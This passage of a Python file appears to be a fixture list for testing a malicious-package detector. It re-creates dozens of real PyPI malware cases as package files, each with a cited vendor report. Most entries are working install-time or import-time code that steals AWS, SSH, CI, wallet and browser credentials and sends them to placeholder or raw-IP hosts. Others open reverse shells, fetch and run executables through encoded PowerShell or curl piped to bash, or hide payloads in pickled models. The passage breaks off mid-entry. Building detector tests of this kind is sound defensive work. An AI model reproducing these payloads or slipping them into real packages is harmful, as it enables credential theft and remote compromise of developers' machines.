    # ReversingLabs, VMConnect (2023, attributed to Lazarus): importing the package starts a loop
    # that reports the host to a C2 server, saves the module it sends back to a file and runs it.
    ("demo-vmconnect", "wheel", {
        "demo_vmconnect/__init__.py": "from .hashfile import *\n",
        "demo_vmconnect/hashfile.py": "import os, sys, time, base64, platform, subprocess, requests\n"
        "_C2 = 'https://datahub.demo-vmc.example.net/api'\n"
        "def _report():\n    info = {'os': platform.system(), 'node': platform.node(), 'rel': platform.release()}\n"
        "    r = requests.post(_C2 + '/hello', data=info, timeout=10)\n    return r.text\n"
        "def _fetch_and_run(ans):\n    mod = base64.b64decode(ans)\n"
        "    path = os.path.join(os.path.dirname(__file__), '.hash_cache.py')\n"
        "    with open(path, 'wb') as fh:\n        fh.write(mod)\n"
        "    subprocess.Popen([sys.executable, path])\n"
        "def _loop():\n    for _ in range(10):\n        ans = _report()\n        if ans:\n            _fetch_and_run(ans)\n            break\n        time.sleep(60)\n"
        "_loop()\n"},
     "host report to a C2, the answer decoded, written to a file and run, from a loop started on import",
     "ReversingLabs, VMConnect (2023)",
     ["beacon", "download-run", "exfiltration", "import-time", "decode-run"]),

    # Checkmarx, packages using Cloudflare tunnels (2023: pyrologin, easytimestamp, discorder): the
    # setup.py runs PowerShell with an -EncodedCommand that downloads a zip into AppData, unpacks
    # and starts it.
    ("demo-enc-ps", "sdist", {"setup.py":
        "import subprocess\nfrom setuptools import setup\n"
        "subprocess.Popen('powershell -NoP -W Hidden -EncodedCommand ' + '" + base64.b64encode((
            "$p=\"$env:APPDATA\\rt\";Invoke-WebRequest -Uri 'https://files.example.net/rt.zip' -OutFile \"$p.zip\";"
            "Expand-Archive \"$p.zip\" $p -Force;Start-Process \"$p\\svc.exe\" -WindowStyle Hidden").encode("utf-16-le")).decode() + "', shell=True)\n"
        "setup(name='demo-enc-ps', version='1.0.0')\n"},
     "PowerShell -EncodedCommand (UTF-16 base64) that downloads, unpacks and starts an executable at install",
     "Checkmarx, PyPI packages abusing Cloudflare tunnels (2023)",
     ["download-run", "decode-run", "shady-links"]),

    # Sonatype, loglib-modules / pygrata / pygrata-utils (2022): AWS keys and environment read on
    # import and sent in plain text to the attacker's endpoint (here through http.client).
    ("demo-grata", "wheel", {"demo_grata/__init__.py":
        "import os, json, socket, http.client\n"
        "def _creds():\n    out = {k: v for k, v in os.environ.items() if k.startswith('AWS_')}\n"
        "    p = os.path.expanduser('~/.aws/credentials')\n    if os.path.exists(p):\n        out['file'] = open(p).read()\n"
        "    out['host'] = socket.gethostname()\n    return out\n"
        "def _up():\n    c = http.client.HTTPSConnection('graph.demo-grata.example.net', timeout=5)\n"
        "    c.request('POST', '/upload', body=json.dumps(_creds()), headers={'Content-Type': 'application/json'})\n"
        "try:\n    _up()\nexcept Exception:\n    pass\n"},
     "AWS keys from the environment and ~/.aws/credentials posted with http.client on import",
     "Sonatype, loglib-modules / pygrata AWS key stealers (2022)",
     ["credential-theft", "exfiltration", "import-time"]),

    # Socket, pycord-self (2025): a Discord library look-alike whose client sends the user's token
    # out when it logs in, and which opens a shell backdoor to a raw IP from import.
    ("demo-pycord-self", "wheel", {"demo_pycord_self/__init__.py":
        "import socket, subprocess, threading, requests\n"
        "class Client:\n    def run(self, token):\n"
        "        requests.post('http://198.51.100.66:5000/t', json={'token': token}, timeout=5)\n"
        "        self.token = token\n"
        "def _bd():\n    s = socket.create_connection(('198.51.100.66', 6969))\n    while True:\n"
        "        cmd = s.recv(1024).decode()\n        if not cmd:\n            break\n"
        "        s.sendall(subprocess.run(cmd, shell=True, capture_output=True).stdout)\n"
        "threading.Thread(target=_bd, daemon=True).start()\n"},
     "token sent out at login and a socket shell to a raw IP started on import",
     "Socket, pycord-self (2025)",
     ["credential-theft", "exfiltration", "reverse-shell", "import-time"]),

    # Socket, set-utils (2025): on import it wraps the wallet library's account-creation functions
    # so every new private key is sent out (there through a blockchain RPC call).
    ("demo-set-utils", "wheel", {"demo_set_utils/__init__.py":
        "import json, threading, urllib.request\nfrom eth_account import Account\n"
        "_orig = Account.create\n"
        "def _ship(key):\n    body = json.dumps({'jsonrpc': '2.0', 'method': 'eth_sendRawTransaction', 'params': [key.hex()], 'id': 1}).encode()\n"
        "    urllib.request.urlopen(urllib.request.Request('https://rpc.demo-chain.example.net', data=body), timeout=5)\n"
        "def _create(*a, **k):\n    acct = _orig(*a, **k)\n    threading.Thread(target=_ship, args=(acct.key,)).start()\n    return acct\n"
        "Account.create = _create\n"
        "def merge(a, b):\n    return set(a) | set(b)\n"},
     "wallet-creation function patched on import so each new private key is sent to a remote RPC",
     "Socket, set-utils Ethereum key stealer (2025)",
     ["credential-theft", "exfiltration", "import-time"]),

    # ReversingLabs, aliyun-ai-labs-snippets-sdk (2025): the package loads a bundled PyTorch
    # model whose pickle runs code that collects user, host and ~/.gitconfig and sends them.
    ("demo-model-pickle", "wheel", {
        "demo_model_pickle/__init__.py": "import os, torch\n"
        "_m = torch.load(os.path.join(os.path.dirname(__file__), 'model.pt'), weights_only=False)\n",
        "demo_model_pickle/model.pt": _torch_zip(
            "import os, getpass, socket, base64, urllib.request\n"
            "g = open(os.path.expanduser('~/.gitconfig')).read() if os.path.exists(os.path.expanduser('~/.gitconfig')) else ''\n"
            "urllib.request.urlopen('https://aliyun.demo-ai.example.net/u', data=base64.b64encode((getpass.getuser() + socket.gethostname() + g).encode()))\n")},
     "bundled model whose pickle collects user, host and git config and sends them, loaded on import",
     "ReversingLabs, aliyun-ai-labs-snippets-sdk malicious models (2025)",
     ["non-source-payload", "exfiltration", "credential-theft", "import-time"]),

    # Sonatype, crytic-compilers (2025): a look-alike of a security tool whose setup.py, on
    # Windows, downloads an executable from a raw IP into the local app-data folder and starts it.
    ("demo-crytic", "sdist", {"setup.py":
        "import os, urllib.request\nfrom setuptools import setup\n"
        "if os.name == 'nt':\n"
        "    dst = os.path.join(os.getenv('LOCALAPPDATA'), 'Temp', 's.exe')\n"
        "    urllib.request.urlretrieve('http://198.51.100.180/files/s.exe', dst)\n"
        "    os.startfile(dst)\n"
        "setup(name='demo-crytic', version='0.3.9')\n"},
     "setup.py downloads an .exe from a raw IP into app data and starts it with os.startfile",
     "Sonatype, crytic-compilers Lumma stealer dropper (2025)",
     ["download-run", "shady-links"]),

    # Stealer droppers hosting the next stage on a chat service's CDN (Checkmarx and Fortinet
    # write-ups, 2022-2023): a helper downloads, a later statement starts it through the shell.
    ("demo-cdn-stage", "wheel", {"demo_cdn_stage/__init__.py":
        "import os, tempfile, requests\n"
        "def _get(url, dst):\n    with open(dst, 'wb') as out:\n        out.write(requests.get(url, timeout=20).content)\n    return dst\n"
        "_exe = _get('https://cdn.discordapp.com/attachments/1111111111/2222222222/Updater.exe',\n"
        "            os.path.join(tempfile.gettempdir(), 'Updater.exe'))\n"
        "os.system('start \"\" \"%s\"' % _exe)\n"},
     "executable fetched from a chat CDN by a helper into the temp dir, started through the shell on import",
     "Checkmarx / FortiGuard, Discord-CDN-hosted stealer stages (2022-2023)",
     ["download-run", "shady-links", "import-time"]),

    # Datadog Security Labs, fastapi-toolkit (2022): a commit added a base64 blob decoded and run
    # on import; the decoded code adds a hidden route that runs code sent in a request header.
    ("demo-fastapi-kit", "wheel", {"demo_fastapi_kit/__init__.py":
        "import base64\nfrom fastapi import FastAPI\napp = FastAPI()\n"
        "exec(base64.b64decode('" + B64(
            "@app.get('/_health')\ndef _h(x_token: str = ''):\n    return {'r': str(eval(x_token))}\n") + "'))\n"},
     "decoded code on import adds a route that evaluates a request header (backdoor)",
     "Datadog Security Labs, fastapi-toolkit backdoor (2022)",
     ["decode-run", "import-time", "reverse-shell"]),

    # Checkmarx / Check Point, the March 2024 typosquat wave that paused registrations: setup.py
    # fetches an encrypted payload, decrypts it with Fernet and runs it.
    ("tensourflow", "sdist", {"setup.py":
        "from setuptools import setup\nimport requests\nfrom cryptography.fernet import Fernet\n"
        "_k = b'" + base64.urlsafe_b64encode(b"0123456789abcdef0123456789abcdef").decode() + "'\n"
        "exec(Fernet(_k).decrypt(requests.get('https://funcaptcha.demo-paste.example.ru/paste2?package=tensourflow').content).decode())\n"
        "setup(name='tensourflow', version='2.15.0')\n"},
     "typosquat whose setup.py fetches a Fernet-encrypted stage, decrypts and runs it",
     "Checkmarx and Check Point, March 2024 typosquat wave",
     ["typosquat", "download-run", "decode-run", "shady-links"]),

    # Check Point CloudGuard stealer write-ups (2023): browser cookie and key stores copied and
    # sent to a Telegram bot as a document from import.
    ("demo-ff-cookies", "wheel", {"demo_ff_cookies/__init__.py":
        "import os, glob, zipfile, tempfile, requests\n"
        "_z = os.path.join(tempfile.gettempdir(), 'c.zip')\n"
        "with zipfile.ZipFile(_z, 'w') as z:\n"
        "    for f in glob.glob(os.path.expanduser('~/.mozilla/firefox/*.default-release/cookies.sqlite')) + \\\n"
        "             glob.glob(os.path.expanduser('~/.mozilla/firefox/*.default-release/key4.db')):\n"
        "        z.write(f)\n"
        "requests.post('https://api.telegram.org/bot6900000000:AAE-example0000000000000000000000/sendDocument',\n"
        "              data={'chat_id': '-1001'}, files={'document': open(_z, 'rb')})\n"},
     "Firefox cookie and key databases zipped and sent to a Telegram bot on import",
     "Check Point CloudGuard, PyPI stealer reports (2023)",
     ["credential-theft", "exfiltration", "import-time"]),

    # CI token stealers (StepSecurity and Socket write-ups, 2025): read the git credential store
    # and CI tokens and send them to a request-inspection endpoint at install.
    ("demo-ci-tokens", "sdist", {"setup.py":
        "import os, urllib.request, urllib.parse\nfrom setuptools import setup\n"
        "vals = {k: os.environ[k] for k in ('GITHUB_TOKEN', 'GH_TOKEN', 'CI_JOB_TOKEN', 'NPM_TOKEN') if k in os.environ}\n"
        "gc = os.path.expanduser('~/.git-credentials')\nif os.path.isfile(gc):\n    vals['gc'] = open(gc).read()\n"
        "try:\n    urllib.request.urlopen('https://webhook.site/6f1c1c1e-0000-4000-8000-000000000000', urllib.parse.urlencode(vals).encode(), timeout=4)\n"
        "except Exception:\n    pass\n"
        "setup(name='demo-ci-tokens', version='0.0.2')\n"},
     "CI tokens and ~/.git-credentials sent to a request-inspection service at install",
     "StepSecurity / Socket, CI token stealers (2025)",
     ["credential-theft", "exfiltration", "shady-links"]),

    # ---- Round 4 (recall4, 2026-12-01): written before any detector change of the round ----

    # ReversingLabs, "nullifAI" (Feb 2025): model files whose pickle stream starts with a
    # platform-aware reverse shell and then breaks, so scanners that give up on a malformed
    # stream see nothing while the loader has already run the payload. Here the model ships in
    # a wheel and the package loads it on import.
    ("demo-nullifai", "wheel", {
        "demo_nullifai/__init__.py": "import os, torch\n"
        "_m = torch.load(os.path.join(os.path.dirname(__file__), 'weights', 'pytorch_model.bin'))\n",
        "demo_nullifai/weights/pytorch_model.bin": _broken_pickle(
            "import os, socket, subprocess, platform\n"
            "s = socket.socket(); s.connect(('203.0.113.77', 4242))\n"
            "sh = 'cmd.exe' if platform.system() == 'Windows' else '/bin/sh'\n"
            "subprocess.Popen([sh], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n")},
     "broken pickle whose payload (a reverse shell) runs before the stream fails; loaded on import",
     "ReversingLabs, nullifAI (2025)",
     ["non-source-payload", "reverse-shell", "import-time"]),

    # Sonatype, picklescan bypasses (CVE-2025-1716, 2025): a pickle whose callable is pip's
    # own entry point, so loading the model installs a package from an attacker's URL.
    ("demo-pip-main-pickle", "wheel", {
        "demo_pip_main_pickle/__init__.py": "import pickle, pathlib\n"
        "with open(pathlib.Path(__file__).with_name('tokenizer.pkl'), 'rb') as _f:\n    TOKENIZER = pickle.load(_f)\n",
        "demo_pip_main_pickle/tokenizer.pkl": _pickle_p0("pip", "main", "install", "http://198.51.100.31/t/helper-0.1.tar.gz")},
     "pickle that calls pip.main to install from a raw-IP URL; loaded on import",
     "Sonatype, picklescan bypass via pip.main (2025)",
     ["non-source-payload", "download-run", "import-time", "shady-links"]),

    # JPCERT/CC, Lazarus packages pycryptoenv / pycryptoconf (2024): test.py, imported by the
    # package, XOR-decodes a data file named like a cache (IconCache.db) into a DLL and runs it.
    ("demo-iconcache", "wheel", {
        "demo_iconcache/__init__.py": "from . import test\n",
        "demo_iconcache/test.py": "import os, ctypes, tempfile\n"
        "def _x(b, k=0x2A):\n    return bytes(c ^ k for c in b)\n"
        "_src = os.path.join(os.path.dirname(__file__), 'IconCache.db')\n"
        "_dst = os.path.join(tempfile.gettempdir(), 'iconcache.dll')\n"
        "with open(_src, 'rb') as f, open(_dst, 'wb') as g:\n    g.write(_x(f.read()))\n"
        "ctypes.WinDLL(_dst).Run()\n",
        "demo_iconcache/IconCache.db": "".join(chr(ord(c) ^ 0x2A) for c in "MZ\x90\x00\x03" + "\x00" * 40 + "PE\x00\x00")},
     "XOR-decoded DLL from a data file, written to temp and loaded with ctypes on import",
     "JPCERT/CC, Lazarus pycryptoenv / pycryptoconf (2024)",
     ["non-source-payload", "native-injection", "decode-run", "import-time"]),

    # JFrog, "Revival Hijack" (2024): a removed project's name re-registered; the new release's
    # __init__ carries a base64 payload that, on CI machines, fetches a script and runs it.
    ("demo-revival", "wheel", {"demo_revival/__init__.py":
        "import os, base64\n"
        "if os.environ.get('JENKINS_URL') or os.environ.get('CI'):\n"
        "    exec(base64.b64decode('" + B64(
            "import urllib.request, subprocess, tempfile, os\n"
            "p = os.path.join(tempfile.gettempdir(), 'jx.sh')\n"
            "urllib.request.urlretrieve('http://203.0.113.58/jenkins/agent.sh', p)\n"
            "subprocess.call(['bash', p])\n") + "'))\n"},
     "base64 payload run on CI machines at import fetches a script and runs it",
     "JFrog, Revival Hijack / pingdomv3 (2024)",
     ["decode-run", "download-run", "import-time"]),

    # Zscaler ThreatLabz, "sisaws" / SilentSync RAT (2025): a look-alike of a health-service
    # SDK whose token helper, given a hard-coded token, fetches a second stage from a paste
    # site with curl and runs it with the interpreter.
    ("demo-silentsync", "wheel", {"demo_silentsync/auth.py":
        "import os, sys, subprocess, tempfile\n"
        "def gen_token(token):\n"
        "    if token == '8670c5a4c1d24e0cb4d3a4b0':\n"
        "        p = os.path.join(tempfile.gettempdir(), 'helper.py')\n"
        "        subprocess.run(['curl', '-s', '-o', p, 'https://pastebin.com/raw/Xq3v9LmA'])\n"
        "        subprocess.Popen([sys.executable, p])\n"
        "    return {'token': token}\n",
        "demo_silentsync/__init__.py": "from .auth import gen_token\n"},
     "token helper fetches a paste-site script with curl and runs it with python",
     "Zscaler ThreatLabz, sisaws / SilentSync RAT (2025)",
     ["download-run", "shady-links"]),

    # Positive Technologies, "deepseeek" / "deepseekai" (2025): console commands named after an
    # AI model collect the environment (API keys, database credentials) and post it to a
    # request-collection service.
    ("demo-deepseeek", "wheel", {
        "demo_deepseeek/main.py": "import os, json, socket, urllib.request\n"
        "def main():\n"
        "    data = json.dumps({'h': socket.gethostname(), 'env': dict(os.environ)}).encode()\n"
        "    urllib.request.urlopen(urllib.request.Request('https://eoz1k2m3n4.m.pipedream.net', data=data))\n",
        "demo_deepseeek-1.0.dist-info/entry_points.txt": "[console_scripts]\ndeepseeek = demo_deepseeek.main:main\n"},
     "console command posts the whole environment and hostname to a request-collection service",
     "Positive Technologies, deepseeek / deepseekai (2025)",
     ["exfiltration", "credential-theft", "beacon"]),

    # Socket, "ccxt-mexc-futures" (2025): patches an exchange client's request signing so that
    # every order also sends the user's API key and secret to the attacker's host.
    ("demo-mexc-patch", "wheel", {
        "demo_mexc_patch/__init__.py": "from .patch import install\ninstall()\n",
        "demo_mexc_patch/patch.py": "import json, requests\nimport ccxt\n"
        "_orig = ccxt.mexc.sign\n"
        "def _sign(self, path, api='public', method='GET', params={}, headers=None, body=None):\n"
        "    requests.post('https://v3.mexc-futures.workers.dev/api/v1/private/account',\n"
        "                  data=json.dumps({'key': self.apiKey, 'secret': self.secret, 'path': path}))\n"
        "    return _orig(self, path, api, method, params, headers, body)\n"
        "def install():\n    ccxt.mexc.sign = _sign\n"},
     "exchange client patched on import to send API key and secret with every request",
     "Socket, ccxt-mexc-futures (2025)",
     ["credential-theft", "exfiltration", "import-time"]),

    # JFrog, "soopsocks" (2025): a SOCKS proxy package that, on Windows, writes a VBScript and a
    # PowerShell script, registers itself to start at logon and reports the machine's public IP
    # to a Discord webhook.
    ("demo-soopsocks", "wheel", {"demo_soopsocks/__init__.py":
        "import os, subprocess, requests\n"
        "if os.name == 'nt':\n"
        "    d = os.path.join(os.environ['APPDATA'], 'soop')\n    os.makedirs(d, exist_ok=True)\n"
        "    ps = os.path.join(d, 'run.ps1')\n"
        "    open(ps, 'w').write('Start-Process python -ArgumentList \"-m soopsocks.server\" -WindowStyle Hidden')\n"
        "    vbs = os.path.join(d, 'run.vbs')\n"
        "    open(vbs, 'w').write('CreateObject(\"WScript.Shell\").Run \"powershell -ep bypass -w hidden -f ' + ps + '\", 0')\n"
        "    subprocess.call(['schtasks', '/create', '/tn', 'SoopSocks', '/sc', 'onlogon', '/tr', 'wscript ' + vbs, '/f'])\n"
        "    ip = requests.get('https://api.ipify.org').text\n"
        "    requests.post('https://discord.com/api/webhooks/1400000000000000000/c29vcHNvY2tzLWV4YW1wbGUtdG9rZW4', json={'content': ip + ':1080'})\n"},
     "logon task runs a hidden VBScript/PowerShell pair; public IP posted to a webhook; on import",
     "JFrog, soopsocks (2025)",
     ["persistence", "beacon", "exfiltration", "import-time"]),

    # Check Point, WhiteSnake stealer in PyPI packages (2023): setup.py carries a base64 Windows
    # executable, writes it into the temp directory and starts it during install.
    ("demo-whitesnake", "sdist", {"setup.py":
        "import os, sys, base64, tempfile, subprocess\nfrom setuptools import setup\n"
        "if sys.platform == 'win32':\n"
        "    _exe = os.path.join(tempfile.gettempdir(), 'svchost32.exe')\n"
        "    with open(_exe, 'wb') as f:\n"
        "        f.write(base64.b64decode('" + base64.b64encode(b"MZ\x90\x00\x03\x00\x00\x00\x04" + b"\x00" * 50 + b"PE\x00\x00L\x01").decode() + "'))\n"
        "    subprocess.Popen([_exe], creationflags=0x08000000)\n"
        "setup(name='demo-whitesnake', version='0.1.3', packages=[])\n"},
     "base64 Windows executable written to temp and started from setup.py",
     "Check Point, WhiteSnake stealer on PyPI (2023)",
     ["decode-run", "download-run"]),

    # Datadog Security Labs, MUT-8694 / "larpexodus" (2024): setup.py runs PowerShell that
    # downloads an executable into the temp directory and starts it.
    ("demo-larpexodus", "sdist", {"setup.py":
        "import os\nfrom setuptools import setup\n"
        "if os.name == 'nt':\n"
        "    os.system('powershell -Command \"Invoke-WebRequest -Uri https://files.example-drop.net/d/Lp3x.exe '\n"
        "              '-OutFile $env:TEMP\\\\Lp3x.exe; Start-Process $env:TEMP\\\\Lp3x.exe\"')\n"
        "setup(name='demo-larpexodus', version='0.0.1')\n"},
     "PowerShell downloads an executable to temp and starts it, from setup.py",
     "Datadog Security Labs, MUT-8694 / larpexodus (2024)",
     ["download-run", "shady-links"]),

    # Phylum, "django-log-tracker" compromise (2024): a new release replaced the package with an
    # __init__ that downloads an executable from a raw IP and runs it.
    ("demo-log-tracker", "wheel", {"demo_log_tracker/__init__.py":
        "import os, requests, subprocess\n"
        "_p = os.path.join(os.getenv('TEMP', '/tmp'), 'tracker.exe')\n"
        "open(_p, 'wb').write(requests.get('http://198.51.100.144/tracker.exe').content)\n"
        "subprocess.Popen(_p, shell=True)\n"},
     "executable downloaded from a raw IP and started on import",
     "Phylum, django-log-tracker compromise (2024)",
     ["download-run", "shady-links", "import-time"]),
    # --- fifth held-out batch (2026-12-01, helper "recall5"): written and committed before any
    # detector change of the fifth round, measured on the base build with counts only.

    # ReversingLabs, "SentinelSneak" (2022): a look-alike of a vendor's SDK whose client module,
    # imported by the package, gathers shell history, SSH keys, git config and cloud credentials
    # into an archive and uploads it to a hard-coded address.
    ("demo-sentinelsneak", "wheel", {
        "demo_sentinelsneak/__init__.py": "from .sentinelone import SentinelOneClient\n",
        "demo_sentinelsneak/sentinelone.py": "import os, io, glob, zipfile, requests\n"
        "class SentinelOneClient:\n    def __init__(self, url=None):\n        self.url = url\n"
        "def _collect():\n"
        "    home = os.path.expanduser('~')\n"
        "    wanted = ['.bash_history', '.zsh_history', '.gitconfig', '.aws/credentials', '.aws/config']\n"
        "    wanted += [os.path.relpath(p, home) for p in glob.glob(os.path.join(home, '.ssh', '*'))]\n"
        "    buf = io.BytesIO()\n"
        "    with zipfile.ZipFile(buf, 'w') as z:\n"
        "        for rel in wanted:\n"
        "            full = os.path.join(home, rel)\n"
        "            if os.path.isfile(full):\n"
        "                z.write(full, rel)\n"
        "    return buf.getvalue()\n"
        "try:\n"
        "    requests.post('http://198.51.100.14:8080/upload', files={'f': ('data.zip', _collect())}, timeout=10)\n"
        "except Exception:\n    pass\n"},
     "SDK look-alike zips shell history, SSH keys, git and AWS credentials and uploads them on import",
     "ReversingLabs, SentinelSneak (2022)",
     ["credential-theft", "exfiltration", "import-time"]),

    # ReversingLabs, "bitcoinlibdbfix" / "bitcoinlib-dev" (2025): "fixes" for a wallet library
    # whose install step overwrites the library's `clw` command with a script that first uploads
    # the wallet database.
    ("demo-clw-overwrite", "sdist", {"setup.py":
        "import os, shutil, sysconfig\n" + HOOK +
        "CLW = '''#!/usr/bin/env python3\n"
        "import os, requests\n"
        "db = os.path.expanduser('~/.bitcoinlib/database/bitcoinlib.sqlite')\n"
        "if os.path.exists(db):\n"
        "    requests.post('https://dbfix-sync.example-cdn.top/u', files={'db': open(db, 'rb')})\n"
        "from bitcoinlib.tools.clw import main\nmain()\n'''\n"
        "class Fix(install):\n    def run(self):\n        install.run(self)\n"
        "        target = os.path.join(sysconfig.get_paths()['scripts'], 'clw')\n"
        "        with open(target, 'w') as f:\n            f.write(CLW)\n"
        "        os.chmod(target, 0o755)\n"
        "setup(name='demo-clw-overwrite', version='0.6.16', cmdclass={'install': Fix})\n"},
     "install hook overwrites a wallet tool's command with one that uploads the wallet database",
     "ReversingLabs, bitcoinlibdbfix / bitcoinlib-dev (2025)",
     ["credential-theft", "exfiltration", "install-anomaly"]),

    # ReversingLabs, NP6HelperHttptest / NP6HelperHttper (2023): typosquats of a vendor's helper
    # whose setup.py downloads a signed, legitimate executable and a malicious DLL of the name it
    # loads into one folder, then starts the executable (DLL side-loading).
    ("demo-np6-sideload", "sdist", {"setup.py":
        "import os, subprocess, urllib.request\n" + HOOK +
        "def _prep():\n"
        "    d = os.path.join(os.environ.get('LOCALAPPDATA', os.path.expanduser('~')), 'NP6Helper')\n"
        "    os.makedirs(d, exist_ok=True)\n"
        "    for n in ('ComServer.exe', 'dgdeskband64.dll'):\n"
        "        urllib.request.urlretrieve('https://np6-update.example-files.net/' + n, os.path.join(d, n))\n"
        "    subprocess.Popen([os.path.join(d, 'ComServer.exe')], creationflags=0x08000000)\n"
        "class I(install):\n    def run(self):\n        if os.name == 'nt':\n            _prep()\n        install.run(self)\n"
        "setup(name='demo-np6-sideload', version='1.0.3', cmdclass={'install': I})\n"},
     "signed executable and a look-alike DLL downloaded side by side, executable started at install",
     "ReversingLabs, NP6HelperHttptest DLL side-loading (2023)",
     ["native-injection", "download-run"]),

    # Unit 42, Lazarus "PondRAT" packages (real-ids, coloredtxt, beautifultext, minisound, 2024):
    # the package's __init__ decodes a base64 shell command that fetches a binary with curl into a
    # hidden file, marks it executable and runs it.
    ("demo-pondrat", "wheel", {"demo_pondrat/__init__.py":
        "import os, base64\n"
        "__version__ = '0.1.1'\n"
        "_c = '" + B64("curl -k -o /tmp/.cache_up https://198.51.100.77/pond/up && chmod +x /tmp/.cache_up && /tmp/.cache_up &") + "'\n"
        "if os.name == 'posix':\n"
        "    os.system(base64.b64decode(_c).decode())\n"},
     "base64 shell command in __init__ downloads a binary into a hidden temp file and runs it",
     "Unit 42, Lazarus PondRAT packages (2024)",
     ["decode-run", "download-run", "import-time"]),

    # Socket, "sympy-dev" (2025): a look-alike of a maths library whose polynomial helpers, when
    # called, fetch a miner's configuration and binary and run the binary from memory.
    ("demo-sympy-dev", "wheel", {"demo_sympy_dev/polys.py":
        "import os, json, urllib.request\n"
        "def _stage():\n"
        "    cfg = json.loads(urllib.request.urlopen('http://198.51.100.31/cfg.json').read())\n"
        "    elf = urllib.request.urlopen(cfg['bin']).read()\n"
        "    fd = os.memfd_create('kworker', 0)\n    os.write(fd, elf)\n"
        "    if os.fork() == 0:\n        os.execv('/proc/self/fd/%d' % fd, ['kworker', '-c', json.dumps(cfg)])\n"
        "def groebner(F, *gens, **args):\n    _stage()\n    return list(F)\n",
        "demo_sympy_dev/__init__.py": "from .polys import groebner\n"},
     "polynomial helper fetches a miner and runs it from an in-memory file when called",
     "Socket, sympy-dev (2025)",
     ["download-run"]),

    # Check Point Research, CloudGuard Spectral's ten packages (2022): pyg-utils / pymocks /
    # PyProto2 read the AWS credentials file and key variables at install and send them out.
    ("demo-pyg-utils", "sdist", {"setup.py":
        "import os, json, urllib.request\nfrom setuptools import setup\n"
        "def _creds():\n"
        "    out = {k: v for k, v in os.environ.items() if k.startswith('AWS_')}\n"
        "    p = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\n"
        "    if os.path.exists(p):\n        out['file'] = open(p).read()\n"
        "    return out\n"
        "try:\n"
        "    urllib.request.urlopen('https://pygutils-aws.example-stats.cc/c', json.dumps(_creds()).encode(), timeout=5)\n"
        "except Exception:\n    pass\n"
        "setup(name='demo-pyg-utils', version='0.0.3')\n"},
     "setup.py sends the AWS credentials file and AWS_* variables out at install",
     "Check Point Research, CloudGuard Spectral's ten PyPI packages (2022)",
     ["credential-theft", "exfiltration"]),

    # Kroll, "colourfool" (2022): setup.py downloads a Python RAT/stealer from a chat CDN,
    # saves it next to the user's files with a harmless name and runs it hidden.
    ("demo-colourfool", "sdist", {"setup.py":
        "import os, sys, subprocess, requests\n" + HOOK +
        "class I(install):\n    def run(self):\n"
        "        r = requests.get('https://cdn.discordapp.com/attachments/1009/1010/Color.py')\n"
        "        p = os.path.join(os.getenv('APPDATA', os.path.expanduser('~')), 'Color.pyw')\n"
        "        with open(p, 'wb') as f:\n            f.write(r.content)\n"
        "        subprocess.Popen([sys.executable.replace('python.exe', 'pythonw.exe'), p])\n"
        "        install.run(self)\n"
        "setup(name='demo-colourfool', version='1.0', cmdclass={'install': I})\n"},
     "install hook downloads a Python stealer from a chat CDN and runs it windowless",
     "Kroll, colourfool (2022)",
     ["download-run", "shady-links"]),

    # Sonatype, "maratlib" cryptominer family (2021): obfuscated setup.py whose decoded command
    # pipes a downloaded shell script into bash during install.
    ("demo-maratlib", "sdist", {"setup.py":
        "import os, codecs\nfrom setuptools import setup\n"
        "_k = '" + codecs.encode("curl -s https://github.example.org/marattics/marattics/raw/main/aza2.sh | bash", "rot13") + "'\n"
        "os.system(codecs.decode(_k, 'rot13'))\n"
        "setup(name='demo-maratlib', version='0.6')\n"},
     "rot13-hidden `curl ... | bash` run by setup.py at install",
     "Sonatype, maratlib cryptominer packages (2021)",
     ["decode-run", "download-run"]),

    # Kaspersky, pyrologin / easytimestamp / discorder / style.py (2022): setup.py starts a
    # hidden PowerShell with an encoded command that downloads an archive, unpacks it into the
    # temp directory and runs the stealer inside.
    ("demo-pyrologin", "sdist", {"setup.py":
        "import base64, subprocess\n" + HOOK +
        "_PS = \"Invoke-WebRequest -Uri 'https://transfer.example-share.io/v/lib.zip' -OutFile $env:TEMP\\\\l.zip; "
        "Expand-Archive $env:TEMP\\\\l.zip -DestinationPath $env:TEMP\\\\l -Force; Start-Process $env:TEMP\\\\l\\\\update.exe\"\n"
        "class I(install):\n    def run(self):\n"
        "        enc = base64.b64encode(_PS.encode('utf-16-le')).decode()\n"
        "        subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', enc])\n"
        "        install.run(self)\n"
        "setup(name='demo-pyrologin', version='0.1', cmdclass={'install': I})\n"},
     "install hook encodes and starts a hidden PowerShell that downloads, unpacks and runs an exe",
     "Kaspersky, pyrologin / discorder / style.py (2022)",
     ["download-run", "decode-run"]),

    # Check Point Research, same report (2022): free-net-vpn / free-net-vpn2 send the user's
    # environment variables to a hard-coded host when the package is imported.
    ("demo-free-net-vpn", "wheel", {"demo_free_net_vpn/__init__.py":
        "import os, threading, http.client, json\n"
        "def _report():\n"
        "    c = http.client.HTTPSConnection('freenetvpn-api.example-app.ml', timeout=5)\n"
        "    c.request('POST', '/v', body=json.dumps(dict(os.environ)), headers={'Content-Type': 'application/json'})\n"
        "threading.Thread(target=_report, daemon=True).start()\n"},
     "environment variables posted over http.client from a thread started on import",
     "Check Point Research, CloudGuard Spectral's ten PyPI packages (2022)",
     ["exfiltration", "credential-theft", "import-time"]),

    # --- Round 6 (written and measured before that round's work; weighted to import-time
    # stealers and exfiltration). Sources: public issue threads where the malicious code was
    # reported and described; each sample is re-written from the description, not copied.

    # XanaduAI/MrMustard issue #656 (2026): release 0.7.4 uploaded without a matching tag; a
    # function disguised as a TensorFlow compatibility check, called at the bottom of the
    # package's __init__, collects SSH private keys, the AWS credentials file, the Kubernetes
    # config, environment variables, host and user names, and posts them to a metrics-looking
    # HTTPS endpoint; it also adds a cron line so the collector runs again every 15 minutes.
    ("demo-mrmustard", "wheel", {"demo_mrmustard/__init__.py":
        "import os, json, glob, socket, getpass, subprocess, urllib.request\n"
        "__version__ = '0.7.4'\n"
        "from .physics import *  # noqa\n"
        "def _check_tf_compatibility():\n"
        "    home = os.path.expanduser('~')\n"
        "    found = {}\n"
        "    for rel in ('.aws/credentials', '.kube/config'):\n"
        "        p = os.path.join(home, rel)\n"
        "        if os.path.isfile(p):\n"
        "            with open(p) as f:\n                found[rel] = f.read()\n"
        "    for p in glob.glob(os.path.join(home, '.ssh', 'id_*')):\n"
        "        with open(p) as f:\n            found[os.path.basename(p)] = f.read()\n"
